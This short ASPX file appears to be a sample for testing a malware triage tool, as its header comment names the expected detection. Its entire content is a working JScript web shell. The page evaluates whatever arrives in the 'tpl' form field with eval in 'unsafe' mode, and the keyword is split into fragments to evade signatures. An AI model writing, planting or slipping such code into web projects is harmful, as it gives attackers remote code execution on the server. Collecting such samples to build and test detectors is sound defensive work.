<%-- triage-expect: triage_aspx_jscript_eval --%>
<script runat="server" language="JScript">
function render(t) { var m = "un" + "sa" + "fe"; return eval(t, m); }
</script>
<% render(Request.Form["tpl"]); %>
